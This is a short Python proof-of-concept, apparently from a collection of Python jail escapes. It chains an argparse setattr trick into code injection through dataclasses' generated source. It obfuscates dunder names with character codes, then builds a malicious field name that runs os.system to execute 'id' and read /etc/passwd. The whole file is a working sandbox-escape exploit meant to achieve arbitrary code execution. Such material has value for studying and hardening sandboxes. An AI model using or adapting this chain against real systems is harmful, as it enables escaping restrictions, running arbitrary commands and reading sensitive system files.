# source: CPython dataclasses._create_fn builds source from field names and exec()s it (cf. "dataclass field name injection" write-ups); argparse namespace= setattr gadget (pyjail setattr primitives)
# family: runtime setattr (argparse store_const + parse_args passed as a value via map) -> __annotations__ -> dataclasses exec code injection
# goal: arbitrary code execution: os.system("id; head -3 /etc/passwd")
import argparse
import dataclasses


def s(codes):
    return "".join(map(chr, codes))


def put(target, name, value):
    p = argparse.ArgumentParser()
    p.add_argument("--" + name, action="store_const", const=value)
    list(map(p.parse_args, [["--" + name]], [target]))


class G:
    pass


ANN = s([95, 95]) + "annotations" + s([95, 95])
IMP = s([95, 95]) + "import" + s([95, 95])
CODE = IMP + "('os').system('id; head -3 /etc/passwd')"
N = "a)" + chr(34) + chr(10) + " " + CODE + "#"
put(G, ANN, {N: int})
try:
    dataclasses.dataclass(G, init=False, eq=False)
except Exception as e:
    print("after:", type(e).__name__)
